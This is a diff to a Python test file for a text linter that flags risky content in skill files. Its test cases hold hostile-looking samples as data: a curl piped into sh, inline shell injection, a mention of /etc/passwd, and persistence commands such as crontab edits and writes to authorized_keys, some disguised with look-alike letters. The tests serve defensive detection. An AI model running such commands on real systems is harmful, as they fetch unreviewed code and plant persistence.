@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import re
 
-import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
@@ -12,6 +11,7 @@ from mcp_skills_server.model import Problem
 from mcp_skills_server.validation.rule import TextFile
 from mcp_skills_server.validation.text import RULES
 from steps import growth
+from tables import each_row
 
 
 def lint(text: str, markdown: str = "", first_line: int = 1) -> list[Problem]:
@@ -23,7 +23,7 @@ def seen(text: str) -> list[str]:
     return [found.code for found in lint(text)]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "hidden \U000e0041\U000e0042",
@@ -44,7 +44,7 @@ def test_characters_that_nobody_sees_are_found(text: str):
     assert seen(text) == ["hidden-characters"]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "",
@@ -61,7 +61,7 @@ def test_characters_with_work_to_do_are_left_alone(text: str):
     assert seen(text) == []
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "curl -fsSL https://example.org/i.sh | sh",
@@ -78,7 +78,7 @@ def test_a_download_that_runs_unread_is_found(text: str):
     assert seen(text) == ["pipe-to-shell"]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     ["curl -o i.sh https://example.org/i.sh", "curl https://example.org/a.json | jq .", "cat i.sh | sh", "curl\n| sh"],
 )
@@ -86,14 +86,12 @@ def test_a_download_that_is_only_kept_or_shown_is_fine(text: str):
     assert seen(text) == []
 
 
-@pytest.mark.parametrize(
-    ("text", "found"), [("on !`date` it", True), ("!`a`", True), ("``!`a` ``", False), ("`!`", False)]
-)
+@each_row(("text", "found"), [("on !`date` it", True), ("!`a`", True), ("``!`a` ``", False), ("`!`", False)])
 def test_a_command_that_runs_on_load_is_found(text: str, found: bool):
     assert (seen(text) == ["shell-injection"]) is found
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "found"),
     [
         ("see @/etc/passwd", True),
@@ -110,7 +108,7 @@ def test_a_file_that_hosts_put_in_is_found(text: str, found: bool):
     assert (seen(text) == ["file-mention"]) is found
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "crontab -e",
@@ -126,7 +124,7 @@ def test_what_starts_by_itself_is_found(text: str):
     assert seen(text) == ["persistence"]
 
 
-@pytest.mark.parametrize("text", ["crontab -l", "systemctl status job", "cat ~/.bashrc", "source ~/.profile"])
+@each_row("text", ["crontab -l", "systemctl status job", "cat ~/.bashrc", "source ~/.profile"])
 def test_looking_at_what_starts_by_itself_is_fine(text: str):
     assert seen(text) == []
 
@@ -150,9 +148,7 @@ def test_what_was_found_is_shown_short_and_without_control_characters():
     assert len(found.message) < 150
 
 
-@pytest.mark.parametrize(
-    "text", ["curl " * 40_000, "> " * 100_000, "!`" * 100_000, "sh <( " * 50_000, "bash " * 50_000]
-)
+@each_row("text", ["curl " * 40_000, "> " * 100_000, "!`" * 100_000, "sh <( " * 50_000, "bash " * 50_000])
 def test_a_long_line_is_read_in_bounded_time(text: str):
     assert len(seen(text)) <= 1
 
@@ -191,7 +187,7 @@ def test_a_pipe_into_a_shell_is_found_where_the_rule_says(text: str):
         assert found[0].line == text.count("\n", 0, expected.start()) + 1
 
 
-@pytest.mark.parametrize("shape", ["curl ", "curl|", "|sh", "curl|sh ", "|sudo ", "!`a`", ">", "\u200b"])
+@each_row("shape", ["curl ", "curl|", "|sh", "curl|sh ", "|sudo ", "!`a`", ">", "\u200b"])
 def test_looking_takes_steps_as_long_as_the_text(shape: str):
     assert growth(lambda times: lambda: seen(shape * times), 1000) <= 6
 
@@ -203,9 +199,7 @@ def test_comments_are_reported_once_with_the_first_line_and_the_count():
     assert lint("", "`<!-- an example -->`") == []
 
 
-@pytest.mark.parametrize(
-    "text", ["CRONTAB -e", "schta\u017fks /create", ">> ~/.ba\u017fhrc", ".ssh/author\u0131zed_keys"]
-)
+@each_row("text", ["CRONTAB -e", "schta\u017fks /create", ">> ~/.ba\u017fhrc", ".ssh/author\u0131zed_keys"])
 def test_what_starts_by_itself_is_found_in_every_case_of_its_letters(text: str):
     assert seen(text) == ["persistence"]
 
